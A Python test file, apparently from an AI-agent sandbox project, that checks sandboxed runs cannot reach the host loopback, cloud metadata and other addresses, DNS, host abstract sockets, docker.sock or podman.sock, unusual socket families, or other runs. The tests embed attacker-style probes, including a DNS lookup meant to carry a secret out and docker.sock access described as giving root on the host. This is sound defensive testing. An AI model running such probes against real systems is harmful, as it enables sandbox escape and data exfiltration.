"""Ways out over a socket."""

import asyncio
import os
import socket
from pathlib import Path

import pytest

from agenthost.core.ports import Sandbox
from agenthost.testing.attacks.common import attempt
from agenthost.testing.sandboxes import python, under_way

# Answers that say: there is no way there. A time-out would say that packets were sent.
NO_WAY = {"ENETUNREACH", "EADDRNOTAVAIL", "EINVAL", "EHOSTUNREACH", "ECONNREFUSED", "ENETDOWN", "EAFNOSUPPORT"}


class NetworkAttacks:
    """A run has a loopback of its own and nothing else."""

    async def test_the_hosts_loopback_is_not_reachable(self, sandbox: Sandbox, workspace: Path) -> None:
        """Sharing the host's network, the attacker would print `reached`."""
        with socket.create_server(("127.0.0.1", 0)) as server:
            port = server.getsockname()[1]
            with socket.create_connection(("127.0.0.1", port)):  # it can be reached from here
                pass
            code = f"import socket\ntry: socket.create_connection(('127.0.0.1', {port}), 3); print('reached')\nexcept OSError as e: print(type(e).__name__)"
            assert await attempt(sandbox, workspace, code) == "ConnectionRefusedError"

    async def test_no_address_but_its_own_loopback_can_be_reached(self, sandbox: Sandbox, workspace: Path) -> None:
        """With any route, a datagram socket connects at once (`reached`) and a stream waits (`TimeoutError`)."""
        code = """
import socket, errno
for family, address in ((2, '169.254.169.254'), (2, '10.0.0.1'), (2, '172.17.0.1'), (2, '8.8.8.8'), (10, 'fe80::1'), (10, '2001:4860:4860::8888')):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            s = socket.socket(family, kind); s.settimeout(3); s.connect((address, 80)); print('reached', address)
        except OSError as e: print(errno.errorcode.get(e.errno, type(e).__name__))
"""
        said = set((await attempt(sandbox, workspace, code)).split())
        assert said
        assert said <= NO_WAY

    async def test_no_name_is_looked_up(self, sandbox: Sandbox, workspace: Path) -> None:
        """With a resolver, a name that is always there has an address; so has one that carries a secret out."""
        code = "import socket\nfor name in ('example.com', 'stolen-secret.example.com'):\n  try: print('found', socket.getaddrinfo(name, 80))\n  except OSError as e: print(type(e).__name__)"
        assert set((await attempt(sandbox, workspace, code)).split()) == {"gaierror"}

    async def test_a_server_in_the_sandbox_can_be_tested_on_its_own_loopback(
        self, sandbox: Sandbox, workspace: Path
    ) -> None:
        """No attack: what must work all the same, so that the refusals above are no broken network."""
        code = """
import socket
with socket.create_server(('127.0.0.1', 0)) as server:
    with socket.create_connection(server.getsockname()) as near:
        far, _ = server.accept(); far.sendall(b'hello'); print(near.recv(5).decode()); far.close()
"""
        assert await attempt(sandbox, workspace, code) == "hello"

    async def test_abstract_sockets_of_the_host_are_not_there(self, sandbox: Sandbox, workspace: Path) -> None:
        """In the host's network namespace, the attacker would connect and print nothing."""
        name = f"agenthost-attack-{os.getpid()}"
        with socket.socket(socket.AF_UNIX) as server:
            server.bind("\0" + name)
            server.listen()
            with socket.socket(socket.AF_UNIX) as near:  # it can be reached from here
                near.connect("\0" + name)
            code = f"import socket\ns = socket.socket(socket.AF_UNIX)\ntry: s.connect('\\0{name}'); print('reached')\nexcept OSError as e: print(type(e).__name__)"
            assert await attempt(sandbox, workspace, code) == "ConnectionRefusedError"

    async def test_the_hosts_socket_files_are_not_there(
        self, sandbox: Sandbox, workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """With docker.sock mounted, or any folder of the host's that has one, the attacker would print
        `reached`, by the path or by a link to it, and be root on the host with the next request."""
        path = tmp_path / "door"
        with socket.socket(socket.AF_UNIX) as server:
            monkeypatch.chdir(tmp_path)
            server.bind("door")
            server.listen()
            path.chmod(0o777)
            with socket.socket(socket.AF_UNIX) as near:  # it can be reached from here
                near.connect("door")
            (workspace / "link").symlink_to(path)
            places = [
                str(path),
                "/workspace/link",
                "/run/docker.sock",
                "/var/run/docker.sock",
                "/run/podman/podman.sock",
            ]
            code = f"import socket\nfor place in {places!r}:\n  try: socket.socket(socket.AF_UNIX).connect(place); print('reached')\n  except OSError as e: print('shut')"
            assert (await attempt(sandbox, workspace, code)).split() == ["shut"] * 5

    async def test_other_kinds_of_sockets_are_refused(self, sandbox: Sandbox, workspace: Path) -> None:
        """Netlink, packet, raw, SCTP, vsock, crypto, TIPC, UDP-Lite and ping sockets are where kernels had
        holes; each one that can be made is printed."""
        code = """
import socket
for family, kind, protocol in ((16, 3, 0), (17, 3, 0), (2, 3, 1), (2, 1, 132), (40, 1, 0), (38, 5, 0), (30, 5, 0), (2, 2, 136), (2, 2, 1)):
    try: socket.socket(family, kind, protocol); print('made', family, kind, protocol)
    except OSError as e: print('refused')
"""
        assert set((await attempt(sandbox, workspace, code)).splitlines()) == {"refused"}

    async def test_a_run_can_not_reach_the_network_of_another_run(self, sandbox: Sandbox, workspace: Path) -> None:
        """Runs that shared a network would print `reached`, for the port and for the abstract name."""
        other = workspace.parent / "other"
        other.mkdir()
        serve = """
import socket, time, sys
server = socket.create_server(('127.0.0.1', 8001))
named = socket.socket(socket.AF_UNIX); named.bind('\\0neighbour'); named.listen()
open('ready', 'w').close(); time.sleep(20)
"""
        serving = asyncio.get_running_loop().create_task(python(sandbox, other, serve))
        try:
            await under_way(serving, other / "ready")
            reach = """
import socket
for family, address in ((socket.AF_INET, ('127.0.0.1', 8001)), (socket.AF_UNIX, '\\0neighbour')):
    try: socket.socket(family).connect(address); print('reached')
    except OSError as e: print(type(e).__name__)
"""
            assert (await attempt(sandbox, workspace, reach)).split() == ["ConnectionRefusedError"] * 2
            assert not serving.done()
        finally:
            serving.cancel()
            await asyncio.wait([serving])
